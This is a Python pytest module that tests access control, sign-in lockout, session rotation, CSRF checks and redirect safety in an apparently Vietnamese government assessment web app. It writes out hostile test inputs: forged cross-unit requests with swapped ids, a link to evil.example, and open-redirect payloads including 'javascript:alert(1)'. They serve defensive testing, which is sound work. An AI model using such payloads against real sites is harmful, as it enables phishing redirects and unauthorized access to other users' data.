

#: unit B's own page with an id that is not its own: the form refuses it, or the page is not found
INVALID = (400, 404)


class OpenWorld:
    """An open period: unit A's assessment with an answer, a file and a department; unit B's
    assessment with a document reference."""

    def __init__(self, personas: Any, frameworks: Any) -> None:
        from dti.assessments import actions

        self.case = AssessmentCase(personas, frameworks)
        self.case.save("officer_a", "1.1", {"yes": True})
        response = personas.client("officer_a").post(
            reverse("assessments:evidence", args=[self.case.assessment.pk]),
            {
                "kind": "file",
                "criteria": [self.case.criterion("1.1").pk],
                "files": [SimpleUploadedFile("bao-cao.pdf", PDF)],
            },
        )
        assert response.status_code == 302
        self.evidence = Evidence.objects.get()
        self.assessment_b = Assessment.objects.create(
            period=self.case.period, unit=personas.unit_b, group=self.case.group
        )
        actor, access = self.case.who("officer_b")
        self.evidence_b = actions.add_evidence(
            actor,
            access,
            self.assessment_b,
            Evidence(kind=Evidence.Kind.DOCUMENT, doc_number="9/QĐ-SYT"),
            [self.case.criterion("1.1")],
        )
        self.foreign_criterion = Criterion.objects.get(framework__code="bacninh-huyen", code="1.1")
        self.department = personas.department_a

    def url(self, name: str, *args: int, assessment: Assessment | None = None) -> str:
        return reverse(f"assessments:{name}", args=[(assessment or self.case.assessment).pk, *args])

    def workbook(self) -> bytes:
        client = self.case.personas.client("officer_a")
        response = client.get(self.url("workbook"))
        book = load_workbook(io.BytesIO(response.content))
        sheet = book[assessment_workbook.SHEET_FIGURES]
        note = [c.header for c in assessment_workbook.FIGURE_COLUMNS].index("Ghi chú") + 1
        row = next(r for r in range(1, sheet.max_row + 1) if sheet.cell(r, 1).value == "1.1")
        sheet.cell(row, note).value = "Ghi chú từ tệp Excel"
        return saved(book)

    def forged(self) -> dict[str, Request]:
        """What unit B's data officer tries against unit A, by changing ids in URLs."""
        c = self.case
        one, two = c.criterion("1.1").pk, c.criterion("1.2").pk
        general = {"values": {"sub_units": "5"}, "version": c.assessment.general_version}
        return {
            "save-answer": Request(
                self.url("save_answer", two),
                {"inputs": {"yes": True}, "note": "", "version": 0},
                json=True,
            ),
            "save-general": Request(self.url("save_general"), general, json=True),
            "add-link": Request(
                self.url("evidence"),
                {"kind": "link", "url": "https://evil.example/", "criteria": [one], "summary": "x"},
            ),
            "add-file": Request(
                self.url("evidence"),
                {"kind": "file", "criteria": [one], "files": [SimpleUploadedFile("x.pdf", PDF)]},
            ),
            "link-evidence": Request(
                self.url("evidence_link", self.evidence.pk), {"criteria": [one, two]}
            ),
            "remove-evidence": Request(self.url("evidence_remove", self.evidence.pk)),
            "assign": Request(
                self.url("departments"),
                {"do": "assign", "criteria": [two], "lead": self.department.pk},
            ),
            "mark-done": Request(self.url("departments"), {"do": "done", "criteria": [one]}),
            "assign-by-plan": Request(self.url("departments"), {"do": "plan"}),
            "upload-workbook": Request(
                self.url("workbook_upload"),
                {"step": "check", "file": SimpleUploadedFile("x.xlsx", self.workbook())},
            ),
            "apply-workbook": Request(
                self.url("workbook_upload"),
                {"step": "apply", "token": "0" * 32, "sha256": "0" * 64},
            ),
            "submit": Request(self.url("submit"), {"confirm": "yes"}),
            # unit B's own pages, with unit A's (or another framework's) ids in them
            "own-page-their-evidence-file": Request(
                self.url("evidence_file", self.evidence.pk, assessment=self.assessment_b),
                method="get",
            ),
            "own-page-link-their-evidence": Request(
                self.url("evidence_link", self.evidence.pk, assessment=self.assessment_b),
                {"criteria": [one]},
            ),
            "own-page-remove-their-evidence": Request(
                self.url("evidence_remove", self.evidence.pk, assessment=self.assessment_b)
            ),
            "own-page-their-department": Request(
                self.url("departments", assessment=self.assessment_b),
                {"do": "assign", "criteria": [one], "lead": self.department.pk},
                refused=INVALID,
            ),
            "own-page-foreign-criterion": Request(
                self.url("save_answer", self.foreign_criterion.pk, assessment=self.assessment_b),
                {"inputs": {"yes": True}, "note": "", "version": 0},
                json=True,
            ),
            "own-page-foreign-criterion-evidence": Request(
                self.url("evidence", assessment=self.assessment_b),
                {
                    "kind": "link",
                    "url": "https://x.example/",
                    "criteria": [self.foreign_criterion.pk],
                },
                refused=INVALID,
            ),
        }

    #: who may do each forged request for real (the control: the request itself is valid)
    RIGHTFUL = {
        "save-answer": "officer_a",
        "save-general": "officer_a",
        "add-link": "officer_a",
        "add-file": "officer_a",
        "link-evidence": "officer_a",
        "remove-evidence": "officer_a",
        "assign": "officer_a",
        "upload-workbook": "officer_a",
        "submit": "leader_a",
    }


class QuestionWorld:
    """Unit A submitted; the council asked about 1.3 and sent the round. Unit B has a document."""

    def __init__(self, personas: Any, frameworks: Any) -> None:
        self.case = AppraisalCase(personas, frameworks)
        self.case.ask("1.3", "Đề nghị giải trình tỷ lệ 4/4.")
        with time_machine.travel(datetime.datetime(2024, 11, 4, 9, 0, tzinfo=datetime.UTC)):
            self.case.send(due=datetime.date(2030, 11, 11))
        assessment_b = Assessment.objects.create(
            period=self.case.period, unit=personas.unit_b, group=self.case.group
        )
        self.evidence_b = Evidence.objects.create(
            assessment=assessment_b, kind=Evidence.Kind.DOCUMENT, doc_number="9/QĐ-SYT"
        )

    def forged(self) -> dict[str, Request]:
        a = self.case.assessment.pk
        answer = reverse("appraisal:answer", args=[a, self.case.criterion("1.3").pk])
        return {
            "answer": Request(answer, {"text": "Giải trình"}),
            "send-answers": Request(reverse("appraisal:send_answers", args=[a])),
            # unit A's officer, answering with unit B's evidence: sent back with a message
            "answer-with-their-evidence": Request(
                answer,
                {"text": "Giải trình", "evidence": [self.evidence_b.pk]},
                who="officer_a",
                refused=(302,),
            ),
        }

    RIGHTFUL = {"answer": "officer_a", "send-answers": "officer_a"}


class SteeringWorld:
    """The committee's 2023 plan: unit B's data officer is no member."""

    def __init__(self, personas: Any, frameworks: Any) -> None:
        from test_steering import SteeringCase, report_url

        self.case = SteeringCase(personas)
        self.report_url = report_url

    def forged(self) -> dict[str, Request]:
        data = {"quarter": "1", "value": "78,5", "narrative": "Đã triển khai."}
        return {
            "report-on-target": Request(self.report_url(self.case.target_a), data),
            "report-on-task": Request(self.report_url(self.case.task_yearly), data),
        }

    RIGHTFUL = {"report-on-target": "member_a", "report-on-task": "member_a"}

    def client(self, who: str) -> Client:
        if who.startswith("member_"):
            client = Client()
            client.force_login(getattr(self.case, who))
            return client
        return self.case.personas.client(who)  # type: ignore[no-any-return]


WORLDS: dict[str, Any] = {"open": OpenWorld, "questions": QuestionWorld, "steering": SteeringWorld}
#: when each world's requests are sent (the steering plan's reports are due in 2023)
CLOCKS = {"steering": datetime.datetime(2023, 4, 20, 3, 0, tzinfo=datetime.UTC)}


def _client(world: Any, who: str) -> Client:
    return world.client(who) if hasattr(world, "client") else world.case.personas.client(who)


def _clock(name: str) -> Any:
    return time_machine.travel(CLOCKS[name]) if name in CLOCKS else contextlib.nullcontext()


@pytest.mark.parametrize("name", sorted(WORLDS))
def test_unit_b_changing_ids_reaches_nothing_of_unit_a_and_writes_nothing(
    personas: Any, builtin_frameworks: Any, name: str
) -> None:
    world = WORLDS[name](personas, builtin_frameworks)
    SecurityPolicy.current()  # made on the first request of all, whoever sends it
    with _clock(name):
        for what, request in world.forged().items():
            client = _client(world, request.who)
            before = database()
            response = request.send(client)
            assert response.status_code in request.refused, (what, response.status_code)
            assert database() == before, what
            pending = [k for k in session_keys(client) if k.startswith("dti_assessment_workbook")]
            assert pending == [], what


@pytest.mark.parametrize("name", sorted(WORLDS))
def test_the_same_requests_by_the_rightful_people_do_write(
    personas: Any, builtin_frameworks: Any, name: str
) -> None:
    """The control of the test above: its forged requests are valid ones, aimed at the wrong unit."""
    world = WORLDS[name](personas, builtin_frameworks)
    SecurityPolicy.current()
    with _clock(name):
        forged = world.forged()
        for what, who in world.RIGHTFUL.items():
            before = database()
            response = forged[what].send(_client(world, who))
            assert response.status_code in (200, 302), (what, response.status_code)
            assert database() != before, what


# ================================================================== sign-in


RIGHT_PASSWORD = "mật-khẩu-thử-nghiệm"  # the personas'


def sign_in(client: Client, username: str, password: str | None = None, **more: str) -> Any:
    return client.post(
        reverse("accounts:login"),
        {"username": username, "password": password or RIGHT_PASSWORD, **more},
    )


WRONG = "Tên đăng nhập hoặc mật khẩu không đúng."
LOCKED_NOW = "Đăng nhập sai quá nhiều lần: tài khoản này bị khoá trong 15 phút."
LOCKED = "Tài khoản này bị khoá do đăng nhập sai quá nhiều lần. Hãy thử lại sau"


def _alert(response: Any) -> str:
    text = response.content.decode()
    start = text.find('role="alert">')
    return text[start + 13 : text.find("</p>", start)] if start >= 0 else ""


class Hashes:
    """Counts the passwords hashed: the work, and so the time, a sign-in attempt takes."""

    def __init__(self, monkeypatch: Any) -> None:
        self.count = 0
        original = MD5PasswordHasher.encode

        def encode(hasher: Any, password: str, salt: str) -> str:
            self.count += 1
            return original(hasher, password, salt)

        monkeypatch.setattr(MD5PasswordHasher, "encode", encode)


def test_lockout_after_repeated_failures_looks_the_same_for_an_unknown_username(
    personas: Any, settings: Any, monkeypatch: Any
) -> None:
    settings.DTI_LOCKOUT_ATTEMPTS, settings.DTI_LOCKOUT_MINUTES = 5, 15
    hashes = Hashes(monkeypatch)
    start = timezone.now()
    seen: dict[str, list[str]] = {}
    with time_machine.travel(start, tick=False):
        for username in ("officer_a", "khong-ai-co"):
            client = Client()
            messages = []
            for attempt in range(7):
                hashes.count = 0
                # the right password on the last two attempts: refused all the same
                password = RIGHT_PASSWORD if attempt >= 5 else f"sai-{attempt}"
                response = sign_in(client, username, password)
                assert response.status_code == 200
                assert hashes.count == 1, (username, attempt)  # one hash each time, lock or not
                messages.append(_alert(response))
            seen[username] = messages
    until = timezone.localtime(start + datetime.timedelta(minutes=15)).strftime("%H:%M")
    assert seen["officer_a"] == [WRONG] * 4 + [LOCKED_NOW] + [f"{LOCKED} {until}."] * 2
    assert seen["khong-ai-co"] == seen["officer_a"]
    # The lock lifts after DTI_LOCKOUT_MINUTES: the right password works again.
    with time_machine.travel(start + datetime.timedelta(minutes=16), tick=False):
        assert sign_in(Client(), "officer_a").status_code == 302
        assert _alert(sign_in(Client(), "khong-ai-co", "x")) == WRONG
    user = User.objects.get(username="officer_a")
    assert (
        user.failed_logins,
        user.locked_until is None or user.locked_until < timezone.now(),
    ) == (0, True)


def test_the_lock_holds_for_the_username_in_any_case(personas: Any, settings: Any) -> None:
    settings.DTI_LOCKOUT_ATTEMPTS = 3
    for username in ("OFFICER_A", "Khong-Ai-Co"):
        for _ in range(3):
            sign_in(Client(), username, "sai")
        assert LOCKED in _alert(sign_in(Client(), username.lower()))


def test_sign_in_gives_a_new_session_key_and_sign_out_flushes_it(personas: Any) -> None:
    client = Client()
    client.get(reverse("accounts:login"))
    session = client.session
    session["planted"] = "by an attacker"
    session.save()
    planted = session.session_key
    client.cookies[settings.SESSION_COOKIE_NAME] = planted
    assert sign_in(client, "officer_a").status_code == 302
    signed_in = client.cookies[settings.SESSION_COOKIE_NAME].value
    assert signed_in != planted
    assert not SessionStore().exists(planted)  # the fixed key is gone, not just left behind
    assert "planted" in client.session  # the data carried over, under the new key
    assert client.get(reverse("accounts:me")).status_code == 200
    assert client.post(reverse("accounts:logout")).status_code == 302
    assert not SessionStore().exists(signed_in)
    assert client.cookies[settings.SESSION_COOKIE_NAME].value != signed_in
    # The old cookie no longer signs anyone in.
    stale = Client()
    stale.cookies[settings.SESSION_COOKIE_NAME] = signed_in
    assert stale.get(reverse("accounts:me")).status_code == 302


def test_sign_in_with_two_factor_also_gives_a_new_session_key(personas: Any) -> None:
    import pyotp

    user = personas.users["officer_a"]
    user.totp_secret, user.totp_enabled = pyotp.random_base32(), True
    user.save()
    client = Client()
    assert sign_in(client, "officer_a")["Location"] == reverse("accounts:totp")
    halfway = client.cookies[settings.SESSION_COOKIE_NAME].value
    response = client.post(reverse("accounts:totp"), {"code": pyotp.TOTP(user.totp_secret).now()})
    assert response.status_code == 302
    assert client.cookies[settings.SESSION_COOKIE_NAME].value != halfway
    assert not SessionStore().exists(halfway)


def test_sign_in_and_sign_out_need_the_csrf_token(personas: Any) -> None:
    client = Client(enforce_csrf_checks=True)
    assert sign_in(client, "officer_a").status_code == 403
    assert "_auth_user_id" not in client.session
    page = client.get(reverse("accounts:login"))
    token = page.context["csrf_token"]
    assert sign_in(client, "officer_a", csrfmiddlewaretoken=str(token)).status_code == 302
    assert client.post(reverse("accounts:logout")).status_code == 403  # signed in still
    assert client.get(reverse("accounts:me")).status_code == 200


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "https:evil.example",
        "javascript:alert(1)",
    ],
)
def test_sign_in_never_sends_people_off_site(personas: Any, target: str) -> None:
    response = sign_in(Client(), "officer_a", next=target)
    assert response.status_code == 302
    assert response["Location"] == reverse("start")
